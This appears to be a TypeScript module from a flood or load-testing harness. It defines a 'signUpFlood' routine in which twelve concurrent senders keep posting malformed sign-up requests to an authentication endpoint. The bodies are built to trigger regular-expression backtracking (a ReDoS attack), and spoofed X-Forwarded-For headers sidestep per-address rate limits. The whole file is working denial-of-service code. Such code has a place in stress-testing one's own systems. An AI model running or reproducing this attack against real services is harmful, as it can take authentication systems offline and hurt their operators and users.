import { count, type Flood, repeat, type Tally } from './flood.ts';

/** Texts that a regular expression for JSON strings backtracks over; the short one is parsed. */
const bodies = ['"\\'.repeat(32_700), '"\\'.repeat(8_000)];
const senders = 12;

/** Twelve addresses, each sending the next malformed sign-up as soon as the last was answered. */
export const signUpFlood: Flood = async ({ url, seconds }) => {
  const tally: Tally = {};
  await repeat(senders, seconds, async (sender) => {
    try {
      const answer = await fetch(`${url}/auth/v1/signup`, {
        method: 'POST',
        headers: {
          'Content-Type': 'application/json',
          'X-Forwarded-For': `203.0.113.${sender + 1}`,
        },
        body: bodies[sender % bodies.length] ?? '',
      });
      await answer.arrayBuffer();
      count(tally, answer.status);
    } catch {
      count(tally, 'connection refused or closed');
    }
  });
  return tally;
};
